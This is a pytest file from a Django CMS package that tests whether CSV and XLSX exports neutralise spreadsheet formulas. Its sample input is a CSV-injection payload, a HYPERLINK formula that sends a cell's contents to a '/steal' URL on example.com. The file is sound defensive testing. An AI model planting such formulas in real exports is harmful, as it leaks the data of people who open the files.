"""No cell of any CSV or XLSX file the package writes is read as a formula."""

import datetime
import io

import pytest
from openpyxl import load_workbook

from opengov_cms.core.exports import neutralise
from tests.catalogue.factories import CatalogueIndexPageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.com/steal?x="&A1,"点击")'


def test_a_text_that_starts_like_a_formula_gets_an_apostrophe():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(text) == "'" + text
    assert neutralise("关于=的通知") == "关于=的通知"
    assert neutralise(-1) == -1 and neutralise(None) is None


def stale_sections(client, fmt):
    response = client.get("/admin/reports/opengov-stale-sections/", {"export": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_stale_sections_downloads_neutralise_formulas(home_page, admin_client):
    CatalogueIndexPageFactory(parent=home_page, title=FORMULA, slug="formula")
    text = stale_sections(admin_client, "csv").decode("utf-8-sig")
    assert f"'{FORMULA}" in text.replace('""', '"')
    sheet = load_workbook(io.BytesIO(stale_sections(admin_client, "xlsx"))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert f"'{FORMULA}" in values


def test_the_catalogue_export_neutralises_formulas(client, section, publish_entry):
    publish_entry(title=FORMULA, publication_date=datetime.date(2024, 3, 1))
    response = client.get(f"/opengov/catalogue/{section.pk}/export.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert f"'{FORMULA}".replace('"', '""') in text
